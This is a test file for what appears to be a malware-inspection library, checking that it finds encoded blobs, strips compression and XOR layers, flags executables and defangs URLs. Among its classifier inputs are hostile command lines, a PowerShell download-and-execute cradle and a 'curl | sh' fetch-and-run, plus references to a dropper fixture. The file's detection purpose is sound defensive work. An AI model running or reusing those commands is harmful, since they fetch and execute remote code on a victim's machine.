import { classifyText, defang, findEncodedRuns, inspectBlob, inspectRun } from '../../src/decode/index.js';
import { bunzipBounded } from '../../src/archive/compress.js';
import {
  DROPPER_PY,
  PLAIN_PY,
  b32,
  b64,
  b64url,
  bytes,
  concat,
  deflated,
  fakeELF,
  fakePE,
  fakePNG,
  fakeZip,
  gzipped,
  hex,
  prng,
  sine,
  telnyx,
  utf8,
  wrap,
  xor,
  zlibbed,
} from '../helpers/payloads.js';

describe('findEncodedRuns', () => {
  test('finds base64, base64url, base32 and hex runs and decodes them', () => {
    const payload = utf8(PLAIN_PY);
    const data = concat('junk\x00\x01 ', b64(payload), ' \x00 ', b64url(prng(90, 3)), '\x00', b32(payload), ';', hex(payload), '\x00');
    const runs = findEncodedRuns(data, 64);
    expect(runs.map((r) => r.encoding)).toEqual(['base64', 'base64', 'base32', 'hex']);
    expect(Buffer.from(runs[0].decoded).toString()).toBe(PLAIN_PY);
    expect(Buffer.from(runs[1].decoded)).toEqual(Buffer.from(prng(90, 3)));
    expect(Buffer.from(runs[2].decoded).toString()).toBe(PLAIN_PY);
    expect(Buffer.from(runs[3].decoded).toString()).toBe(PLAIN_PY);
    expect(runs[0].offset).toBe(7);
  });

  test('follows base64 wrapped over lines (\\n, \\r\\n and escaped \\n in a literal)', () => {
    const p = utf8(DROPPER_PY);
    for (const nl of ['\n', '\r\n', '\\n']) {
      const runs = findEncodedRuns(bytes(`x = "${wrap(b64(p), 64, nl)}"\n`), 64);
      expect(runs).toHaveLength(1);
      expect(Buffer.from(runs[0].decoded).toString()).toBe(DROPPER_PY);
    }
  });

  test('a stray alphabet character before the run does not break the decoding', () => {
    const pe = fakePE(2048);
    const runs = findEncodedRuns(concat('\x00Q', b64(telnyx(pe)), '\x00'), 64);
    expect(runs).toHaveLength(1);
    expect(inspectRun(runs[0]).kind).toBe('executable');
  });

  test('ignores words, identifiers, paths, alphabet and digit tables, repeated characters', () => {
    const noise = [
      'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/',
      'ThisIsAVeryLongCamelCaseIdentifierNameForSomethingImportantHereOkay',
      'some_long_function_name_with_underscores_and_more_words_to_pad_it',
      'Type_0_is_not_a_valid_async_function_return_type_in_ES5_because_it',
      '/usr/lib/python3/site-packages/foo/bar/baz/qux/quux/corge/grault/garply',
      '0123456789012345678901234567890123456789012345678901234567890123456789',
      '0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef',
      'A'.repeat(200),
      '-'.repeat(200),
      '='.repeat(200),
      'internationalizationinternationalizationinternationalization',
    ];
    for (const s of noise) expect([s, findEncodedRuns(bytes(` ${s} `), 40)]).toEqual([s, []]);
  });

  test('respects minLength and maxRuns, and keeps the longest runs', () => {
    const short = b64(prng(30, 1)); // 40 chars
    const long = b64(prng(300, 2));
    const data = bytes([short, short, long, short].join(' '));
    expect(findEncodedRuns(data, 64)).toHaveLength(1);
    expect(findEncodedRuns(data, 32)).toHaveLength(4);
    const one = findEncodedRuns(data, 32, 1);
    expect(one).toHaveLength(1);
    expect(one[0].length).toBe(long.length);
  });

  test('random binary and audio produce no runs', () => {
    expect(findEncodedRuns(prng(1 << 20, 11), 64)).toEqual([]);
    expect(findEncodedRuns(sine(100000), 64)).toEqual([]);
    const big = new Uint8Array(64 << 20);
    big.set(prng(1 << 20, 5));
    expect(findEncodedRuns(big, 64)).toEqual([]);
  });

  test('never throws on odd input', () => {
    expect(findEncodedRuns(new Uint8Array(0))).toEqual([]);
    expect(findEncodedRuns(bytes('===='))).toEqual([]);
    expect(findEncodedRuns(bytes('\\n\\n\\n'.repeat(100)))).toEqual([]);
    expect(findEncodedRuns(bytes('A=B=C=D='.repeat(100)))).toEqual([]);
  });
});

describe('inspectBlob', () => {
  const pe = fakePE(8192);

  test('classifies executables with a description, never raw bytes in the preview', () => {
    const v = inspectBlob(pe);
    expect(v).toMatchObject({ kind: 'executable', format: 'pe', danger: 1, layers: [] });
    expect(v.summary).toContain('x86-64');
    expect(v.preview).not.toContain('MZ');
    expect(inspectBlob(fakeELF()).format).toBe('elf');
  });

  test('a header fragment is not an executable', () => {
    expect(inspectBlob(fakeELF().subarray(0, 40)).kind).not.toBe('executable');
    expect(inspectBlob(pe.subarray(0, 0x70)).kind).not.toBe('executable');
  });

  test('peels base64 / hex / base32 text, compression and XOR', () => {
    expect(inspectBlob(bytes(b64(pe))).layers).toEqual(['base64']);
    expect(inspectBlob(bytes(hex(gzipped(pe)))).layers).toEqual(['hex', 'gzip']);
    expect(inspectBlob(bytes(b32(pe))).kind).toBe('executable');
    const v = inspectBlob(bytes(b64(zlibbed(utf8(DROPPER_PY)))));
    expect(v).toMatchObject({ kind: 'python', layers: ['base64', 'zlib'] });
    expect(v.danger).toBe(1);
    expect(inspectBlob(deflated(utf8(DROPPER_PY.repeat(3)))).layers).toEqual(['deflate']);
  });

  test('the telnyx layout: 8-byte key in front of an XOR-ed PE, inside base64', () => {
    const v = inspectBlob(bytes(b64(telnyx(pe))));
    expect(v.kind).toBe('executable');
    expect(v.layers).toEqual(['base64', 'xor-keyprefix:4b1f9a03e25c71d8']);
    expect(v.summary).toMatch(/PE .*base64 \+ XOR/);
  });

  test('repeating-key XOR from known plaintext, keys 1 to 16 bytes', () => {
    for (const key of [bytes('\x5a'), bytes('abc'), prng(8, 2), bytes('0123456789abc'), prng(16, 4)]) {
      const v = inspectBlob(xor(pe, key));
      expect([key.length, v.kind]).toEqual([key.length, 'executable']);
    }
    expect(inspectBlob(xor(fakeELF(4096), prng(16, 3))).layers[0]).toBe(`xor:${Buffer.from(prng(16, 3)).toString('hex')}`);
    expect(inspectBlob(xor(fakeZip('payload.py', 'import os'), bytes('\x13\x37'))).kind).toBe('archive');
    const t = inspectBlob(xor(utf8(DROPPER_PY), bytes('k3y!z')));
    expect(t).toMatchObject({ kind: 'python', layers: ['xor:6b3379217a'] });
  });

  test('XOR never "finds" code in repetitive or random data', () => {
    const zeros = new Uint8Array(8192);
    for (let i = 0; i < zeros.length; i += 64) zeros[i] = i & 0xff;
    for (const d of [zeros, prng(8192, 9), sine(8000), new Uint8Array(4096).fill(0x41)]) {
      const v = inspectBlob(d);
      expect(v.layers.filter((l) => l.startsWith('xor'))).toEqual([]);
      expect(v.danger).toBeLessThanOrEqual(0.2);
    }
  });

  test('bzip2 is decompressed, bounded', () => {
    // "BZh9" stream of the text "hello\n" (from bzip2 -9)
    const bz = Buffer.from('425a6839314159265359c1c080e2000001410000100244a00030cd00c3462997177245385090c1c080e2', 'hex');
    const r = bunzipBounded(new Uint8Array(bz), 1024);
    expect(r && Buffer.from(r.out).toString()).toBe('hello\n');
    const small = bunzipBounded(new Uint8Array(bz), 3);
    expect(small?.truncated).toBe(true);
    expect(bunzipBounded(bytes('BZh91AY&SY garbage garbage'), 1024)).toBeNull();
  });

  test('decompression output is bounded (a bomb is inspected on its head)', () => {
    const bomb = zlibbed(new Uint8Array(50 << 20));
    const v = inspectBlob(bomb, { maxOutput: 1 << 20 });
    expect(v.size).toBeLessThanOrEqual(1 << 20);
    expect(v.layers[0]).toMatch(/^zlib/);
  });

  test('classifies media, archives, text, random', () => {
    expect(inspectBlob(fakePNG(prng(100))).kind).toBe('image');
    expect(inspectBlob(fakeZip()).kind).toBe('archive');
    expect(inspectBlob(utf8('just a sentence of ordinary prose, nothing else.')).kind).toBe('text');
    expect(inspectBlob(prng(5000)).kind).toBe('random');
    expect(inspectBlob(new Uint8Array(0)).kind).toBe('empty');
    expect(inspectBlob(utf8(PLAIN_PY))).toMatchObject({ kind: 'python', danger: 0.5 });
  });

  test('malformed input ends in a verdict, not an exception', () => {
    const cases = [bytes('\x78\x9c\xff\xff\xff'), bytes('\x1f\x8b\x08garbage'), bytes('BZh9garbage'), bytes('MZ'), bytes('\x7fELF\x02\x01\x01'), prng(3)];
    for (const c of cases) expect(() => inspectBlob(c)).not.toThrow();
  });
});

describe('classifyText', () => {
  test('code that runs things is dangerous; plain code is not', () => {
    expect(classifyText(DROPPER_PY).danger).toBe(1);
    expect(classifyText('import os\nos.system("id")\n').danger).toBeGreaterThanOrEqual(0.8);
    expect(classifyText("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"")).toMatchObject({ kind: 'powershell', danger: 1 });
    expect(classifyText('#!/bin/sh\ncurl -s http://198.51.100.2/x | sh\n')).toMatchObject({ kind: 'shell', danger: 1 });
    expect(classifyText(PLAIN_PY).danger).toBe(0.5);
    expect(classifyText('#!/bin/sh\necho hello\n')).toMatchObject({ kind: 'shell', danger: 0.5 });
    expect(classifyText('The quick brown fox.').kind).toBe('text');
  });
});

describe('defang', () => {
  test('escapes non-printables and breaks URLs, IPs and hostnames', () => {
    expect(defang('get http://evil.example.com/a.exe now')).toBe('get hxxp://evil[.]example[.]com/a.exe now');
    expect(defang('connect 203.0.113.9:443')).toBe('connect 203[.]0[.]113[.]9:443');
    expect(defang(bytes('MZ\x90\x00\x03'))).toBe('MZ\\x90\\x00\\x03');
    expect(defang('see files.pythonhosted.org')).toContain('pythonhosted[.]org');
    expect(defang('a'.repeat(500), 50)).toHaveLength(50);
  });
});
